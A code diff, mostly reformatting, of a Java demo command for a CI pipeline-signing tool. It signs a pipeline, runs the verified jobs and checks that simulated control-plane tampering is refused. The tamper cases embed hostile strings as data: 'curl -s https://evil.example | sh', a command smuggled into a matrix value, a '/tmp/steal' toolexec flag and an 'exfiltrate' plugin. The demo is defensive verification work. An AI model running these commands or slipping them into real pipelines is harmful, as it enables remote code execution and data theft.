@@ -6,7 +6,6 @@ import dev.signet.job.JobExpander;
 import dev.signet.job.JobJson;
 import dev.signet.job.JobVerdict;
 import dev.signet.job.JobVerifier;
-import dev.signet.json.JsonObject;
 import dev.signet.json.JsonWriter;
 import dev.signet.keys.Algorithm;
 import dev.signet.keys.KeyGenerator;
@@ -80,7 +79,8 @@ final class DemoCommand implements Callable<Integer> {
     AtomicFiles.createNew(priv, key.privateJwks() + "\n", true);
     AtomicFiles.createNew(pub, key.publicJwks() + "\n", true);
     KeySet publicSet = KeySet.parse(key.publicJwks(), pub.toString());
-    out.println("   private key " + priv.getFileName() + " (mode 0600), public key " + pub.getFileName());
+    out.println(
+        "   private key " + priv.getFileName() + " (mode 0600), public key " + pub.getFileName());
     out.println("   thumbprint " + publicSet.describe().getFirst().thumbprint());
 
     heading("2. Sign the pipeline (" + REPO + ")");
@@ -89,9 +89,13 @@ final class DemoCommand implements Callable<Integer> {
     PipelineSigner.refuseInterpolation(yaml, "pipeline.yml");
     Pipeline pipeline = PipelineParser.parse(yaml, "pipeline.yml", InputLimits.DEFAULT);
     Signer signer = KeySet.parse(key.privateJwks(), priv.toString()).signer(null);
-    Pipeline signed = PipelineSigner.sign(pipeline, signer, new PipelineSigner.Options(null, REPO, true, null));
+    Pipeline signed =
+        PipelineSigner.sign(pipeline, signer, new PipelineSigner.Options(null, REPO, true, null));
     AtomicFiles.createNew(dir.resolve("pipeline.signed.yml"), PipelineWriter.toYaml(signed), false);
-    out.println("   " + pipeline.steps().size() + " top-level steps (groups, a matrix, plugins, wait, block, trigger); every command step now carries a signature");
+    out.println(
+        "   "
+            + pipeline.steps().size()
+            + " top-level steps (groups, a matrix, plugins, wait, block, trigger); every command step now carries a signature");
     out.println("   wrote pipeline.signed.yml");
 
     heading("3. Expand into jobs, as the control plane does");
@@ -107,7 +111,8 @@ final class DemoCommand implements Callable<Integer> {
     List<String[]> rows = new ArrayList<>();
     int ran = 0;
     for (Job j : jobs) {
-      Files.writeString(dir.resolve("job-" + j.id() + ".json"), JsonWriter.pretty(JobJson.toJson(j)));
+      Files.writeString(
+          dir.resolve("job-" + j.id() + ".json"), JsonWriter.pretty(JobJson.toJson(j)));
       JobVerdict v = verifier.verify(j);
       if (v instanceof JobVerdict.Verified ok) {
         String output = runCommand(ok.step().command(), j.env(), dir);
@@ -117,31 +122,99 @@ final class DemoCommand implements Callable<Integer> {
         out.println("   ⛔ " + describe(j) + " refused: " + explain(v));
       }
     }
-    rows.add(new String[] {"genuine jobs", jobs.size() + " verified and ran", ran == jobs.size() ? "ok" : "FAILED"});
+    rows.add(
+        new String[] {
+          "genuine jobs", jobs.size() + " verified and ran", ran == jobs.size() ? "ok" : "FAILED"
+        });
 
     heading("5. Tamper with jobs like a compromised control plane");
     Job build = jobs.getFirst();
-    Job matrixJob = jobs.stream().filter(j -> !j.matrixPermutation().isEmpty()).findFirst().orElseThrow();
+    Job matrixJob =
+        jobs.stream().filter(j -> !j.matrixPermutation().isEmpty()).findFirst().orElseThrow();
     List<Tamper> tampers =
         List.of(
-            new Tamper("change the command", build, j -> withEnv(j, "BUILDKITE_COMMAND", "curl -s https://evil.example | sh")),
-            new Tamper("change the signed step's command too", build, j -> new Job(j.id(), put(j.env(), "BUILDKITE_COMMAND", "curl -s https://evil.example | sh"), j.step().withCommand("curl -s https://evil.example | sh"), j.matrixPermutation())),
-            new Tamper("change a step env value", build, j -> withEnv(j, "GOFLAGS", "-toolexec=/tmp/steal")),
-            new Tamper("change a pipeline env value", build, j -> withEnv(j, "DEPLOY_ENV", "production")),
-            new Tamper("swap a plugin", build, j -> new Job(j.id(), j.env(), j.step().withPlugins(List.of(new Plugin("evil-org/exfiltrate#v1.0.0", null))), j.matrixPermutation())),
-            new Tamper("change plugin config (job env)", build, j -> withEnv(j, "BUILDKITE_PLUGINS", j.env().get("BUILDKITE_PLUGINS").replace("golang:1.22", "evil/golang:latest"))),
-            new Tamper("point at another repository", build, j -> withEnv(j, "BUILDKITE_REPO", "git@github.com:evil/widgets.git")),
-            new Tamper("forge a matrix permutation", matrixJob, j -> forge(j, Map.of("os", "linux; curl evil | sh", "arch", "amd64"))),
-            new Tamper("run a skipped combination", matrixJob, j -> forge(j, Map.of("os", "darwin", "arch", "amd64"))),
-            new Tamper("strip the signature", build, j -> new Job(j.id(), j.env(), j.step().withSignature(null), j.matrixPermutation())),
-            new Tamper("reuse another step's signature", build, j -> new Job(j.id(), j.env(), j.step().withSignature(jobs.getLast().step().signature()), j.matrixPermutation())));
+            new Tamper(
+                "change the command",
+                build,
+                j -> withEnv(j, "BUILDKITE_COMMAND", "curl -s https://evil.example | sh")),
+            new Tamper(
+                "change the signed step's command too",
+                build,
+                j ->
+                    new Job(
+                        j.id(),
+                        put(j.env(), "BUILDKITE_COMMAND", "curl -s https://evil.example | sh"),
+                        j.step().withCommand("curl -s https://evil.example | sh"),
+                        j.matrixPermutation())),
+            new Tamper(
+                "change a step env value",
+                build,
+                j -> withEnv(j, "GOFLAGS", "-toolexec=/tmp/steal")),
+            new Tamper(
+                "change a pipeline env value", build, j -> withEnv(j, "DEPLOY_ENV", "production")),
+            new Tamper(
+                "swap a plugin",
+                build,
+                j ->
+                    new Job(
+                        j.id(),
+                        j.env(),
+                        j.step()
+                            .withPlugins(List.of(new Plugin("evil-org/exfiltrate#v1.0.0", null))),
+                        j.matrixPermutation())),
+            new Tamper(
+                "change plugin config (job env)",
+                build,
+                j ->
+                    withEnv(
+                        j,
+                        "BUILDKITE_PLUGINS",
+                        j.env()
+                            .get("BUILDKITE_PLUGINS")
+                            .replace("golang:1.22", "evil/golang:latest"))),
+            new Tamper(
+                "point at another repository",
+                build,
+                j -> withEnv(j, "BUILDKITE_REPO", "git@github.com:evil/widgets.git")),
+            new Tamper(
+                "forge a matrix permutation",
+                matrixJob,
+                j -> forge(j, Map.of("os", "linux; curl evil | sh", "arch", "amd64"))),
+            new Tamper(
+                "run a skipped combination",
+                matrixJob,
+                j -> forge(j, Map.of("os", "darwin", "arch", "amd64"))),
+            new Tamper(
+                "strip the signature",
+                build,
+                j -> new Job(j.id(), j.env(), j.step().withSignature(null), j.matrixPermutation())),
+            new Tamper(
+                "reuse another step's signature",
+                build,
+                j ->
+                    new Job(
+                        j.id(),
+                        j.env(),
+                        j.step().withSignature(jobs.getLast().step().signature()),
+                        j.matrixPermutation())));
     int refused = 0;
     for (Tamper t : tampers) {
       JobVerdict v = verifier.verify(t.change().apply(t.job()));
       boolean ok = !v.mayRun();
       refused += ok ? 1 : 0;
-      out.printf("   %s %-38s %s%n", ok ? "⛔" : "‼️", t.name(), ok ? "refused: " + explain(v) : "NOT REFUSED");
-      rows.add(new String[] {t.name(), ok ? "refused (" + ((JobVerdict.Failed) v).check().name().toLowerCase().replace('_', ' ') + ")" : "RAN", ok ? "ok" : "FAILED"});
+      out.printf(
+          "   %s %-38s %s%n",
+          ok ? "⛔" : "‼️", t.name(), ok ? "refused: " + explain(v) : "NOT REFUSED");
+      rows.add(
+          new String[] {
+            t.name(),
+            ok
+                ? "refused ("
+                    + ((JobVerdict.Failed) v).check().name().toLowerCase().replace('_', ' ')
+                    + ")"
+                : "RAN",
+            ok ? "ok" : "FAILED"
+          });
     }
 
     heading("Summary");
@@ -154,9 +227,14 @@ final class DemoCommand implements Callable<Integer> {
     }
     boolean allGood = ran == jobs.size() && refused == tampers.size();
     out.println();
-    out.println(allGood
-        ? "   All " + jobs.size() + " genuine jobs ran; all " + tampers.size() + " tampered jobs were refused before running."
-        : "   Something was not as expected: see the table above.");
+    out.println(
+        allGood
+            ? "   All "
+                + jobs.size()
+                + " genuine jobs ran; all "
+                + tampers.size()
+                + " tampered jobs were refused before running."
+            : "   Something was not as expected: see the table above.");
     return allGood ? ExitCode.OK : ExitCode.INTERNAL;
   }
 
@@ -166,7 +244,8 @@ final class DemoCommand implements Callable<Integer> {
     return new Job(j.id(), put(j.env(), name, value), j.step(), j.matrixPermutation());
   }
 
-  private static LinkedHashMap<String, String> put(Map<String, String> env, String name, String value) {
+  private static LinkedHashMap<String, String> put(
+      Map<String, String> env, String name, String value) {
     LinkedHashMap<String, String> copy = new LinkedHashMap<>(env);
     copy.put(name, value);
     return copy;
@@ -175,7 +254,11 @@ final class DemoCommand implements Callable<Integer> {
   /** A forged permutation with the command the control plane would then send along with it. */
   private static Job forge(Job j, Map<String, String> permutation) {
     LinkedHashMap<String, String> perm = new LinkedHashMap<>(permutation);
-    String command = j.step().command().replace("{{matrix.os}}", perm.get("os")).replace("{{matrix.arch}}", perm.get("arch"));
+    String command =
+        j.step()
+            .command()
+            .replace("{{matrix.os}}", perm.get("os"))
+            .replace("{{matrix.arch}}", perm.get("arch"));
     return new Job(j.id(), put(j.env(), "BUILDKITE_COMMAND", command), j.step(), perm);
   }
 
@@ -190,13 +273,16 @@ final class DemoCommand implements Callable<Integer> {
 
   private static String explain(JobVerdict v) {
     if (v instanceof JobVerdict.Failed f) {
-      return f.check().name().toLowerCase().replace('_', ' ') + (f.field() == null ? "" : " [" + f.field() + "]");
+      return f.check().name().toLowerCase().replace('_', ' ')
+          + (f.field() == null ? "" : " [" + f.field() + "]");
     }
     return "ran";
   }
 
-  private static String runCommand(String command, Map<String, String> env, Path dir) throws IOException, InterruptedException {
-    ProcessBuilder pb = new ProcessBuilder("bash", "-c", command).directory(dir.toFile()).redirectErrorStream(true);
+  private static String runCommand(String command, Map<String, String> env, Path dir)
+      throws IOException, InterruptedException {
+    ProcessBuilder pb =
+        new ProcessBuilder("bash", "-c", command).directory(dir.toFile()).redirectErrorStream(true);
     pb.environment().putAll(env);
     Process p = pb.start();
     byte[] output;
